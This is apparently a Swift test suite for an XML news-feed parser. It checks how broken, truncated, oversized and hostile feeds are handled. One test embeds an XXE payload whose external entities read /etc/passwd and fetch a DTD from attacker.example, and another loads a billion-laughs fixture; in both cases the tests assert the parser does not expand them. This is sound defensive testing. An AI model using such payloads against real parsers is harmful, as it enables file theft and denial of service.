import FeedFormats
import Foundation
import NewsModels
import Testing

extension FeedFormatsTests {
    /// Broken and hostile XML: bad items are reported and skipped, the rest imports; whole-document
    /// failures are typed errors; nothing is expanded, loaded or fetched.
    @Suite struct XMLFeedBadInput {
        static func error(_ data: Data, _ parser: XMLFeedParser = XMLFeedParser()) -> FeedFormatError? {
            do {
                _ = try parser.parse(data)
                return nil
            } catch {
                return error
            }
        }

        static func error(_ xml: String) -> FeedFormatError? { error(Data(xml.utf8)) }

        @Test func badItemsAreReportedWhileOthersImport() throws {
            let result = try FeedFormatsTests.parseXML(fixture: "missing-id-rss.xml")
            // Without a guid or link the title keys the item; a reused guid keys its first item, the
            // later one adds its title; an undated item has nothing to be dated by.
            #expect(result.articles.map(\.title)
                == ["Toll booth removed", "An item nobody can track", "Toll booth removed (again)", "Lamps replaced on the causeway"])
            #expect(result.articles.first?.id == FeedArticleID.make(sourceID: "ferrybridge-post.example", itemKey: "fp-1"))
            try #require(result.problems.count == 2)
            #expect(result.problems == [
                ItemProblem(index: 2, itemID: "fp-3", reason: "no date: no pubDate, dc:date or atom:updated"),
                ItemProblem(index: 3, itemID: "fp-4", reason: #"pubDate: unreadable date "the day after tomorrow""#),
            ])
            #expect(result.problems[1].description == #"items[3] (id "fp-4"): pubDate: unreadable date "the day after tomorrow""#)

            let fallback = Timestamp(epochMilliseconds: 1_700_000_000_000)
            let lenient = try FeedFormatsTests.parseXML(fixture: "missing-id-rss.xml", XMLFeedParser(undatedFallback: fallback))
            try #require(lenient.articles.count == 6)
            #expect(lenient.articles[2].publishedAt == fallback)
            #expect(lenient.articles[3].publishedAt == fallback)  // the unreadable date is lost, not the item
            #expect(lenient.problems.isEmpty)
        }

        @Test func itemsWithNothingToKeyThemByAreKeptApart() throws {
            // Peer readers keep a bare item (here only a date); two bare items stay two articles, and a
            // re-read gives each the same id.
            let atom = """
                <feed xmlns="http://www.w3.org/2005/Atom"><link href="https://keyless.example/"/>
                <entry><updated>2025-03-01T00:00:00Z</updated></entry><entry><updated>2025-03-01T00:00:00Z</updated></entry></feed>
                """
            let first = try FeedFormatsTests.parseXML(atom)
            #expect(first.problems.isEmpty && first.articles.count == 2)
            #expect(Set(first.articles.map(\.id)).count == 2)
            #expect(try FeedFormatsTests.parseXML(atom).articles.map(\.id) == first.articles.map(\.id))
            let rdf = """
                <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
                <channel><link>https://keyless.example/</link></channel><item><title> </title></item></rdf:RDF>
                """
            let undated = XMLFeedParser(undatedFallback: Timestamp(epochMilliseconds: 1_700_000_000_000))
            #expect(try FeedFormatsTests.parseXML(rdf, undated).articles.count == 1)
        }

        @Test func truncatedFeedKeepsCompleteItems() throws {
            let result = try FeedFormatsTests.parseXML(fixture: "truncated-rss.xml")
            #expect(result.articles.map(\.title) == ["Sea wall inspection passes", "Bird hide reopens"])
            #expect(result.problems == [
                ItemProblem(index: 2, itemID: "sc-003", reason: "the document is cut off inside this item at line 20; the item is lost"),
            ])

            let text = try String(decoding: FeedFormatsTests.fixture("truncated-rss.xml"), as: UTF8.self)
            // libxml2 notices the end where the bytes end, after any trailing blank lines.
            #expect(try FeedFormatsTests.parseXML(text + "\n\n").problems == [
                ItemProblem(index: 2, itemID: "sc-003", reason: "the document is cut off inside this item at line 22; the item is lost"),
            ])
            let afterItems = String(text[..<text.range(of: "<item>\n      <guid>sc-003")!.lowerBound]) + "</chan"
            let cut = try FeedFormatsTests.parseXML(afterItems)
            #expect(cut.articles.count == 2)
            #expect(cut.problems == [ItemProblem(index: 2, reason: "the document is cut off after the last complete item at line 18")])

            let early = String(text.prefix(200))
            #expect(Self.error(early) == .invalidXML(line: 8, reason: "the document is cut off before its closing </rss>"))
        }

        @Test func brokenMarkupMidwayKeepsEarlierItems() throws {
            let xml = """
                <rss><channel><link>https://mismatch.example/</link>
                <item><guid>m-1</guid><title>Fine</title><pubDate>Mon, 03 Mar 2025 10:00:00 GMT</pubDate></item>
                <item><guid>m-2</guid><title>Broken</titel><pubDate>Mon, 03 Mar 2025 11:00:00 GMT</pubDate></item>
                <item><guid>m-3</guid><title>Never read</title><pubDate>Mon, 03 Mar 2025 12:00:00 GMT</pubDate></item>
                </channel></rss>
                """
            let result = try FeedFormatsTests.parseXML(xml)
            #expect(result.articles.map(\.title) == ["Fine"])
            #expect(result.problems == [ItemProblem(
                index: 1, itemID: "m-2",
                reason: "invalid XML at line 3: Opening and ending tag mismatch: title line 3 and titel; this item and the rest of the document are skipped")])
            #expect(Self.error("<rss>\n<channel><title>x</title></channel>\n<oops></rss>\n")
                == .invalidXML(line: 3, reason: "Opening and ending tag mismatch: oops line 3 and rss"))
        }

        /// The reference stays as written: had it been expanded, the title would be a billion "lol"s.
        @Test func billionLaughsIsNeverExpanded() throws {
            let result = try FeedFormatsTests.parseXML(fixture: "billion-laughs.xml")
            #expect(result.problems == [])
            #expect(result.articles.map(\.title) == ["Gull numbers &lol9; up"])
        }

        @Test func externalEntitiesAreNeverLoaded() throws {
            let xml = """
                <?xml version="1.0"?>
                <!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
                <rss><channel><link>https://xxe.example/</link><item><guid>x-1</guid><title>Leak &secret; here</title>
                <pubDate>Mon, 03 Mar 2025 10:00:00 GMT</pubDate></item></channel></rss>
                """
            let result = try FeedFormatsTests.parseXML(xml)
            #expect(result.articles.map(\.title) == ["Leak &secret; here"])
        }

        @Test func notAFeed() throws {
            #expect(Self.error("<!DOCTYPE html>\n<html><head><title>Hi</title></head></html>") == .notAFeed("the root element is <html>"))
            #expect(Self.error(try FeedFormatsTests.fixture("harbour-notes.json")) == .notAFeed(#"the document is not XML (it starts with "{", not "<")"#))
            #expect(Self.error(try FeedFormatsTests.fixture("subscriptions.opml")) == .notAFeed("the root element is <opml>"))
            #expect(Self.error(#"<x:RDF xmlns:x="http://example.com/"/>"#) == .notAFeed("the root element is <x:RDF>"))
            #expect(FeedFormatError.notAFeed("the root element is <html>").description == "not a feed: the root element is <html>")
        }

        @Test func emptyAndOversizedDocuments() throws {
            #expect(Self.error(Data()) == .empty)
            #expect(Self.error(" \n\t ") == .empty)
            #expect(Self.error(Data([0xEF, 0xBB, 0xBF, 0x0A])) == .empty)
            let data = try FeedFormatsTests.fixture("tidewater-gazette-rss.xml")
            #expect(Self.error(data, XMLFeedParser(maxBytes: 100)) == .tooLarge(bytes: data.count, limit: 100))
            #expect(Self.error(data, XMLFeedParser(maxBytes: data.count)) == nil)
        }

        @Test func fieldsAreCappedAtOneMebibyte() throws {
            let long = String(repeating: "tide ", count: 300_000)  // 1.5 MB
            let xml = """
                <rss><channel><link>https://long.example/</link><item><guid>l-1</guid><title>\(long)</title>
                <pubDate>Mon, 03 Mar 2025 10:00:00 GMT</pubDate></item></channel></rss>
                """
            let title = try #require(try FeedFormatsTests.parseXML(xml).articles.first?.title)
            #expect(title.utf8.count <= 1 << 20)
            #expect(title.utf8.count > (1 << 20) - 10)
            #expect(title.hasPrefix("tide tide"))
        }

        @Test func itemCountIsCapped() throws {
            var xml = "<rss><channel><link>https://many.example/</link>"
            xml.reserveCapacity(3_000_000)
            for index in 0...100_000 { xml += "<item><guid>\(index)</guid></item>" }
            xml += "</channel></rss>"
            let result = try FeedFormatsTests.parseXML(xml)
            #expect(result.articles.isEmpty)
            #expect(result.problems.count == 100_001)
            #expect(result.problems.last == ItemProblem(index: 100_000, reason: "the feed has more than 100000 items; the rest are not read"))
        }
    }
}
